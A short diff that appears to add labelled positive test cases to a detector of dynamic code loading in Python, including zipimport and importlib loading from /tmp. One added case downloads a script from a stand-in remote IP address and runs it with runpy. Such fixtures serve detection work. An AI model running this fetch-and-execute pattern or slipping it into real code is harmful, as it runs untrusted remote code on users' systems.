@@ -34,3 +34,15 @@ class M:
     def eval(self, x):
         return x
 M().eval(input())
+#@ pos a downloaded file run with runpy.run_path
+import runpy, urllib.request
+urllib.request.urlretrieve("http://203.0.113.5/p.py", "/tmp/p.py")
+runpy.run_path("/tmp/p.py")
+#@ pos a zip imported with zipimport
+import zipimport
+zipimport.zipimporter("/tmp/m.zip").load_module("m")
+#@ pos a module loaded from a file path
+import importlib.util
+spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")
+m = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(m)
